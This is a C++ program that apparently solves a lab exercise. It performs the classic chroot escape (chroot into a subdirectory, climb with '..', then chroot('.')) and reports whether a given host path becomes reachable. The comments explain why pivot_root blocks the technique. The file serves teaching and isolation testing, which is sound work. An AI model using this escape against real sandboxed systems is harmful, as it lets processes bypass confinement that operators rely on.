// Lab 04, exercise "escape from a chroot" — a solution.
//
//   chroot-escape PATH     exit 0 if PATH (a path on the host) can be reached
//                          after the escape, 1 if not
//
// chroot(2) changes only where "/" resolves for this process; it does not move
// the current directory, and root may call it again. The classic escape: chroot
// into a subdirectory (so the current directory is now *outside* the root), walk
// up with ".." past where the old root was — nothing stops us, since that was
// not our root any more — and chroot(".") at the real top.
// After pivot_root(2) and detaching the old root, the host's tree is no longer
// in this mount namespace at all: the same walk stops at the container's "/".
// Built static, so it runs in any root filesystem.

#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstring>

int main(int argc, char* argv[]) {
  if (argc != 2) {
    (void)std::fprintf(stderr, "Usage: chroot-escape PATH\n");
    return 2;
  }
  // Kept to remove the directory afterwards, from wherever we end up.
  const int tmp = ::open("/tmp", O_DIRECTORY | O_CLOEXEC);
  //! [chroot-escape]
  ::mkdir("/tmp/.escape", 0700);
  if (::chroot("/tmp/.escape") == -1) {  // the current directory stays outside the new root
    (void)std::fprintf(stderr, "chroot-escape: chroot: %s\n", std::strerror(errno));
    return 2;
  }
  for (int i = 0; i < 256; ++i) (void)::chdir("..");  // up, past the old root
  (void)::chroot(".");                                // and make that the root
  //! [chroot-escape]
  (void)::unlinkat(tmp, ".escape", AT_REMOVEDIR);
  struct stat info {};
  if (::stat(argv[1], &info) == 0) {
    std::printf("escaped: %s is reachable\n", argv[1]);
    return 0;
  }
  std::printf("stayed inside: %s is not reachable\n", argv[1]);
  return 1;
}
